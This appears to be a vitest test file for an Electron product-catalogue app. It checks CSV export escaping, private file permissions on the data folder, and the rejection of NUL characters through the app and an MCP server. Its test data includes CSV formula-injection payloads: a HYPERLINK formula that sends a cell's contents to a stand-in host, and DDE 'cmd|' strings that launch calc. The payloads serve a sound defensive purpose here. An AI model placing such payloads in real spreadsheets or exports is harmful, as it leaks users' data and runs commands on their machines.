// Data and leaks (issue 9, items 9, 10 and the NUL case of 11).
import fs from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterEach, describe, expect, it } from 'vitest';
import type { Host } from '../../electron/core/host.js';
import { call, connect, tempDir, text } from '../helpers/servers.js';
import { startHost } from '../helpers/host.js';

const hosts: Host[] = [];
afterEach(async () => {
  for (const h of hosts.splice(0)) await h.close();
});
const host = async (dataDir = tempDir()) => {
  const h = await startHost({ dataDir, autostart: false });
  hosts.push(h);
  return h;
};

describe('CSV export never hands a spreadsheet a formula', () => {
  const hostile = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for discount")',
    "+cmd|' /C calc'!A0",
    '-2+3+cmd|calc',
    '@SUM(1+1)*cmd|calc',
    "'=already quoted once",
    "''+twice",
  ];

  it('neutralises =, +, -, @ (and quotes before them), keeps plain numbers, and re-imports exactly', async () => {
    const h = await host();
    for (const [i, name] of hostile.entries()) {
      await h.api.createProduct({ name, price: 1 + i, category: '=Formulas', description: '@risky', sku: `H-${i}` });
    }
    await h.api.createProduct({ name: '-5', price: 9, category: 'Numbers', sku: 'N-1' });
    const { csv } = await h.api.exportCsv({});
    const rows = parse(csv, { columns: true }) as Array<Record<string, string>>;
    for (const row of rows) {
      for (const col of ['name', 'category', 'description']) {
        const cell = row[col]!;
        // What a spreadsheet sees: nothing that starts a formula, unless it is a plain number.
        if (!/^-?\d+(\.\d+)?$/.test(cell)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
    expect(rows.find((r) => r.sku === 'N-1')!.name).toBe('-5');
    expect(rows.find((r) => r.sku === 'H-0')!.name).toBe(`'${hostile[0]}`);
    expect(rows.find((r) => r.sku === 'H-4')!.name).toBe(`''=already quoted once`);
    // Importing the export gives back exactly what was there.
    const again = await h.api.previewImport({ csv });
    expect(again.errors).toEqual([]);
    const byName = again.sample.map((r) => r.name);
    for (const name of [...hostile, '-5']) expect(byName).toContain(name);
    expect(again.sample.every((r) => r.category !== "'=Formulas")).toBe(true);
  });
});

describe('the data folder is private', () => {
  const mode = (p: string) => fs.statSync(p).mode & 0o777;

  it('folder 0700, databases and their WAL files, settings and backups 0600', async () => {
    const h = await host();
    await h.api.updateSettings({ startAtLogin: false, clients: { autoRepair: true } });
    await h.api.createProduct({ name: 'Lamp', price: 1, category: 'Home' });
    await h.api.backupData({});
    expect(mode(h.dataDir)).toBe(0o700);
    const files: string[] = [];
    const walk = (d: string) => {
      for (const e of fs.readdirSync(d, { withFileTypes: true })) {
        const p = path.join(d, e.name);
        if (e.isDirectory()) walk(p);
        else files.push(p);
      }
    };
    walk(h.dataDir);
    expect(files.map((f) => path.relative(h.dataDir, f))).toEqual(
      expect.arrayContaining(['products.db', 'products.db-wal', 'settings.json']),
    );
    for (const f of files) expect({ f, mode: mode(f).toString(8) }).toEqual({ f, mode: '600' });
  });

  it('fixes a folder and files an older version left readable by others', async () => {
    const dir = tempDir();
    fs.chmodSync(dir, 0o755);
    fs.writeFileSync(path.join(dir, 'settings.json'), '{}', { mode: 0o644 });
    fs.mkdirSync(path.join(dir, 'logs'), { mode: 0o755 });
    fs.writeFileSync(path.join(dir, 'logs', 'products.log'), 'x', { mode: 0o644 });
    fs.chmodSync(path.join(dir, 'settings.json'), 0o644);
    fs.chmodSync(path.join(dir, 'logs', 'products.log'), 0o644);
    await host(dir);
    expect(mode(dir)).toBe(0o700);
    expect(mode(path.join(dir, 'logs'))).toBe(0o700);
    expect(mode(path.join(dir, 'settings.json'))).toBe(0o600);
    expect(mode(path.join(dir, 'logs', 'products.log'))).toBe(0o600);
  });
});

describe('a NUL character in text', () => {
  it('gets a plain message from the app and from the MCP server, and nothing is written', async () => {
    const h = await host();
    await expect(h.api.createProduct({ name: 'Lamp\0', price: 1, category: 'Home' })).rejects.toThrow(
      /^name must not contain a NUL character \(\\0\)$/,
    );
    await expect(h.api.createProduct({ name: 'Lamp', price: 1, category: 'Home', description: 'a\0b' })).rejects.toThrow(
      /description must not contain a NUL character/,
    );
    await expect(
      h.api.addCity({ name: 'Pa\0ris', country: 'FR', temperature: 10, unit: 'celsius', conditions: 'Sunny', humidity: 50, wind_speed: 3 }),
    ).rejects.toThrow(/name must not contain a NUL character/);
    const before = (await h.api.listProducts({})).total;
    const mcp = await connect('products', h.dataDir);
    try {
      const r = await call(mcp.client, 'add_product', { name: 'Kettle\0', price: 20, category: 'Kitchen' });
      expect(r.isError).toBe(true);
      expect(text(r)).toMatch(/name must not contain a NUL character/);
      expect(text(r)).not.toMatch(/CHECK constraint/);
      const u = await call(mcp.client, 'update_product', { product_id: 1, category: '\0' });
      expect(text(u)).toMatch(/category must not contain a NUL character/);
    } finally {
      await mcp.close();
    }
    expect((await h.api.listProducts({})).total).toBe(before);
  });
});
